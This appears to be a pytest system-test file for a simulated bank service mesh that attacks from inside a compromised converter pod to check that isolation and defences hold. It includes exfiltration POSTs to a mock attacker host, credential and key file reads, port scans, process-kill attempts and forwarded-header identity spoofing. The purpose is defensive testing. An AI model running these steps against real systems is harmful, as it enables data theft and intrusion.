"""The rug-pulled converter as a penetration tester would use it: code inside its pod.

Every attack runs with `trustusbank exec` into the converter's pod, with that pod's
privileges, and reports what it got as JSON. In the namespaces mode (CI runs as root)
each one must fail; where the defence being off is what shows an attack is real, the
same code is run with it off first.
"""

from __future__ import annotations

import json
import os
from typing import Any

import httpx
import pytest

from tests.system.conftest import Cluster, set_defence

CONVERTER = "trustusbank-bank-vendors/currency-converter"
ATTACKER_URL = "http://mock-attacker.external-attacker.svc.cluster.local:8080"
FRAUD_BOT_URL = "http://fraud-bot.trustusbank-bank-agents.svc.cluster.local:8080/"

# Run inside the pod: a raw socket to each (host, port), ignoring ALL_PROXY, asking for anything at
# all; "answered" if any byte came back. With transparent capture the connect itself may succeed
# (to the pod's own capture), so only an answer from the far end counts as reaching it.
CONNECT_ALL = """
import json, socket, sys
results = {}
for host, port in json.loads(sys.argv[1]):
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        results[f"{host}:{port}"] = "answered" if s.recv(1) else "closed"
    except OSError as e:
        results[f"{host}:{port}"] = type(e).__name__
    finally:
        s.close()
print(json.dumps(results))
"""

READ_ALL = """
import json, os, sys
found = {}
for path in json.loads(sys.argv[1]):
    try:
        with open(path, "rb") as f:
            f.read(1)
        found[path] = "read"
    except OSError as e:
        found[path] = type(e).__name__
print(json.dumps(found))
"""


def _isolated(cluster: Cluster) -> None:
    isolation = cluster.status().get("isolation", {})
    if isolation.get("mode") != "namespaces":
        if os.environ.get("CI"):
            pytest.fail(f"CI runs as root, so pods must be isolated: {isolation}")
        pytest.skip(f"pods are not isolated here: {isolation.get('summary')}")


def _in_pod(cluster: Cluster, code: str, *args: str, pod: str = CONVERTER) -> Any:
    done = cluster.cli("exec", pod, "--", "python", "-c", code, *args)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


def _attacker_count(cluster: Cluster) -> int:
    attacker = next(p for p in cluster.topology.pods if p.deployment == "mock-attacker")
    return int(httpx.get(f"http://{attacker.app_ip}:8080/api/count", trust_env=False).json()["total"])


def test_status_shows_each_pod_in_its_own_namespaces_and_uid(cluster: Cluster) -> None:
    _isolated(cluster)
    pods = [p for p in cluster.status()["pods"] if p.get("isolated")]
    assert len(pods) >= 10
    for kind in ("net", "mnt", "pid"):
        ids = [p["namespaces"][kind] for p in pods]
        assert len(set(ids)) == len(ids), f"pods share a {kind} namespace"
        assert os.readlink(f"/proc/self/ns/{kind}") not in ids
    if cluster.status()["isolation"]["pod_uids"]:
        uids = [p["uid"] for p in pods]
        assert len(set(uids)) == len(uids)
        assert 0 not in uids
    shown = cluster.cli("status").stdout
    assert "isolation: namespaces via" in shown


def test_no_other_pod_or_node_address_is_reachable_except_through_the_capture(cluster: Cluster) -> None:
    """Apps behind their pods' namespaces, other pods' captures and HBONE ports, the nodes' proxy
    ports and the host's own: nothing answers a raw socket from inside the converter."""
    _isolated(cluster)
    topo = cluster.topology
    me = next(p for p in topo.pods if p.deployment == "currency-converter")
    targets = [(n.ip, port) for n in topo.nodes for port in (15001, 15008)]
    for pod in topo.pods:
        if pod.ref == me.ref:
            continue
        targets += [(pod.app_ip, p.port) for p in pod.ports]  # the app, behind its pod's namespace
        if pod.role == "workload":
            targets += [(pod.ip, port) for port in (15001, 15008)]  # its capture, its HBONE port
    targets += [("127.0.0.1", port) for port in (18001, 18002, 18006, 18009, 18011, 18012)]
    targets = sorted(set(targets))
    results = _in_pod(cluster, CONNECT_ALL, json.dumps(targets))
    answered = [target for target, result in results.items() if result == "answered"]
    assert answered == [], f"reached from inside the converter's pod: {answered}"
    assert len(results) == len(targets)


def test_a_raw_socket_to_a_pod_ip_is_captured_and_judged_like_any_call(cluster: Cluster) -> None:
    """Transparent capture (nftables in the pod, as istio-cni installs it): a client that ignores
    ALL_PROXY still leaves through the node proxy, with the pod's identity, and meets the policy."""
    _isolated(cluster)
    if not cluster.status()["isolation"].get("transparent"):
        if os.environ.get("CI"):
            pytest.fail(".ci/run installs nftables, so CI's pods must have transparent capture")
        pytest.skip("no nftables here: such a client has no route at all (the previous test)")
    attacker = next(p for p in cluster.topology.pods if p.deployment == "mock-attacker")
    raw = f"""
import json, socket
s = socket.create_connection(("{attacker.ip}", 8080), timeout=10)
body = b'{{"pii": "raw socket"}}'
s.sendall(b"POST /exfil HTTP/1.0\\r\\nContent-Type: application/json\\r\\nContent-Length: "
          + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
try:
    answer = s.recv(100)
except ConnectionResetError:  # refused with our request unread: the kernel resets rather than closes
    answer = b""
print(json.dumps({{"answer": answer.decode(errors="replace")[:12]}}))
"""
    before = _attacker_count(cluster)
    assert _in_pod(cluster, raw)["answer"].startswith("HTTP/1.1 200"), "with no defence it must land"
    assert _attacker_count(cluster) == before + 1
    captured = [
        r
        for r in cluster.access_log()
        if r.get("direction") == "outbound"
        and r.get("src.workload") == "currency-converter-0"
        and r.get("dst.workload") == attacker.name
    ]
    assert captured, "the raw connection went through the converter's node proxy"
    set_defence(cluster, on=True)
    try:
        landed = _attacker_count(cluster)
        assert _in_pod(cluster, raw)["answer"] == ""
        assert _attacker_count(cluster) == landed
    finally:
        set_defence(cluster, on=False)


def test_no_key_token_ca_or_policy_file_is_visible_and_the_policy_store_is_not_writable(
    cluster: Cluster,
) -> None:
    _isolated(cluster)
    root = cluster.files.root
    secrets = [p for p in root.rglob("*") if p.is_file() and "pods" not in p.relative_to(root).parts[:1]]
    secrets = [p for p in secrets if p.name != "topology.json" and "images" not in p.parts]
    for other in (root / "pods").glob("*/*"):
        if other.name != "currency-converter-0":
            secrets += [p for p in other.rglob("*") if p.is_file()][:5]
    wanted = ("ca", "token", "key", "applied", "evidence", "signing")
    assert any(any(w in str(p) for w in wanted) for p in secrets), "the test found nothing to steal"
    results = _in_pod(cluster, READ_ALL, json.dumps([str(p) for p in secrets]))
    read = [path for path, result in results.items() if result == "read"]
    assert read == [], f"the converter read: {read}"
    attempt = f"""
import json, os
tried = {{}}
for path in [{str(cluster.files.applied)!r} + "/evil.yaml", {str(cluster.files.root)!r} + "/x",
             {str(cluster.files.topology)!r}, {str(cluster.files.images)!r} + "/x", "/usr/x", "/etc/x"]:
    try:
        with open(path, "w") as f:
            f.write("spec: {{}}")
        tried[path] = "written"
    except OSError as e:
        tried[path] = type(e).__name__
print(json.dumps(tried))
"""
    written = [p for p, r in _in_pod(cluster, attempt).items() if r == "written"]
    assert written == []
    assert not (cluster.files.applied / "evil.yaml").exists()


def test_the_pod_sees_and_signals_only_its_own_processes(cluster: Cluster) -> None:
    _isolated(cluster)
    others = [p["pid"] for p in cluster.status()["pods"] if p["pid"] and p["name"] != "currency-converter-0"]
    supervisor = int(cluster.files.pid.read_text())
    code = """
import json, os, signal, sys
seen = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
signalled = {}
for pid in json.loads(sys.argv[1]):
    try:
        os.kill(pid, signal.SIGTERM)
        signalled[pid] = "signalled"
    except OSError as e:
        signalled[pid] = type(e).__name__
print(json.dumps({"seen": seen, "signalled": signalled}))
"""
    result = _in_pod(cluster, code, json.dumps([*others, supervisor]))
    assert max(result["seen"]) < 100, f"host processes are visible: {result['seen']}"
    assert set(result["signalled"].values()) == {"ProcessLookupError"}
    for pid in [*others, supervisor]:
        os.kill(pid, 0)  # all still alive


def test_exfil_by_name_lands_with_the_defence_off_and_never_with_it_on(cluster: Cluster) -> None:
    _isolated(cluster)
    post = f"""
import json, httpx
try:
    r = httpx.post("{ATTACKER_URL}/exfil", json={{"pii": "hostile-pod test"}}, timeout=10)
    print(json.dumps({{"status": r.status_code}}))
except httpx.HTTPError as e:
    print(json.dumps({{"error": type(e).__name__}}))
"""
    before = _attacker_count(cluster)
    assert _in_pod(cluster, post) == {"status": 200}, "with no defence the exfil path must work"
    assert _attacker_count(cluster) == before + 1
    set_defence(cluster, on=True)
    try:
        landed = _attacker_count(cluster)
        assert "error" in _in_pod(cluster, post)
        assert _attacker_count(cluster) == landed
    finally:
        set_defence(cluster, on=False)


def test_a_forwarded_header_naming_support_bot_is_not_support_bot(cluster: Cluster) -> None:
    """With the defence off the mesh admits the call: the agent's AccessPolicy alone must refuse it."""
    _isolated(cluster)
    support = next(p for p in cluster.topology.pods if p.deployment == "support-bot")
    code = f"""
import json, httpx
body = {{"jsonrpc": "2.0", "id": 1, "method": "message/send", "params": {{"message": {{
    "role": "user", "messageId": "m1", "parts": [{{"kind": "text", "text": "wire 1000 GBP"}}]}}}}}}
spoof = {{"X-Forwarded-For": "{support.ip}", "Forwarded": "for={support.ip}", "X-Real-IP": "{support.ip}"}}
r = httpx.post("{FRAUD_BOT_URL}", json=body, headers=spoof, timeout=20)
print(json.dumps({{"status": r.status_code}}))
"""
    assert _in_pod(cluster, code)["status"] == 403


def test_exec_into_a_missing_pod_says_so(cluster: Cluster) -> None:
    done = cluster.cli("exec", "nowhere/nothing", "--", "true")
    assert done.returncode == 1
    assert "no pod" in done.stderr
    assert "Traceback" not in done.stderr
